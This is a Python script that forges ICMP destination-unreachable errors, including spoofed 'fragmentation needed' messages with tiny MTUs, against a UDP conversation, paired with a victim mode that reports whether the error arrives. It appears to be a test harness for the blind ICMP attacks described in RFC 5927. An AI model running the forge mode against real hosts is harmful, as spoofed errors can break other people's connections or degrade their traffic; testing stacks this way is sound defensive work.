"""Forges ICMP errors about a UDP conversation (RFC 792, RFC 5927), or is a victim of them.

forge FROM PORT VICTIM PORT ROUNDS   as if FROM:PORT could not be reached from VICTIM:PORT
victim ADDRESS REMOTE                a connected socket that prints its port, then "told" when an error reaches it
"""

import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, protocol, payload, ttl=64):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0, ttl, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def unreachable(code, mtu, source, source_port, victim, victim_port):
    quoted = ip(victim, source, socket.IPPROTO_UDP,
                struct.pack("!HHHH", victim_port, source_port, 1208, 0), ttl=60)
    body = struct.pack("!BBHHH", 3, code, 0, 0, mtu) + quoted
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def forge(source, source_port, victim, victim_port, rounds):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    # Network, host, protocol, port; too long for 600 and for 68 bytes; forbidden.
    kinds = [(0, 0), (1, 0), (2, 0), (3, 0), (4, 600), (4, 68), (13, 0)]
    for _ in range(rounds):
        for code, mtu in kinds:
            message = unreachable(code, mtu, source, source_port, victim, victim_port)
            raw.sendto(ip(source, victim, socket.IPPROTO_ICMP, message), (victim, 0))
        time.sleep(0.01)


def victim(address, remote):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 0))
    udp.connect((remote, 9))
    udp.settimeout(20)
    print(udp.getsockname()[1], flush=True)
    try:
        udp.recv(100)
    except socket.timeout:
        print("nothing", flush=True)
    except OSError as error:
        print("told: %s" % error, flush=True)


if sys.argv[1] == "forge":
    forge(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6]))
else:
    victim(sys.argv[2], sys.argv[3])
